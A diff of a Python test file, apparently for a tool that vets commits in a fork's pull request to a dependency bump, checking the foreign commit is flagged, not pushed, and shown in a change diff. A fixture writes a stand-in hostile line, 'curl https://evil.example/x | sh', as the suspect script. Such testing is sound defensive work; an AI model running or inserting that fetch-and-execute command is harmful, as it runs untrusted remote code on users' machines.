@@ -79,6 +79,7 @@ def of_a_fork(world: World, script: str) -> str:
     """A fork's pull request with the bump and a script, checked out here; its head commit."""
     world.open_pr(mode="apply")
     path = world.checkout.path
+    git(path, "switch", "-q", BRANCH)
     if script:
         (path / script).write_text("curl https://evil.example/x | sh\n")
         git(path, "add", script)
@@ -100,10 +101,12 @@ def test_the_commits_of_a_forks_pull_request_are_judged(world: World, colleague:
     assert evil[:10] in commits.detail
     assert f"foreign-commit:{evil}" in commits.next
     assert "git push" not in commits.next  # it is not our branch
-    made = world.open_pr(mode="publish")
-    assert made.unconfirmed is not None
-    assert world.said("waiting")[-1]["sentence"] == made.unconfirmed.waiting
-    assert "evil.sh" in world.steps[-1].reported().text
+    world.open_pr(mode="publish")
+    assert evil[:10] in world.said("waiting")[-1]["sentence"]
+    assert "label" not in world.effects()
+    folder = world.steps[-1].folder
+    assert folder
+    assert "evil.sh" in (folder / "change.diff").read_text()
     assert not [each for each in look(f"foreign-commit:{evil}").missing if each.name == COMMITS]
 
 
@@ -123,8 +126,8 @@ def test_commits_that_cannot_be_fetched_are_not_met(world: World, colleague: Non
     git(world.remote, "update-ref", "-d", "refs/pull/10/head")
     state = readiness.check(bump_branch.find(world.checkout, bump_to()), world.github(), world.records)
     assert [each.name == COMMITS and each.ok for each in state.requirements] == [False]
-    made = world.open_pr()
-    assert (made.review, "cannot be fetched" in world.outcome()) == (None, True)
+    world.open_pr()
+    assert "cannot be fetched" in world.outcome()
 
 
 def test_a_strangers_pull_request_is_not_the_bumps(world: World) -> None:
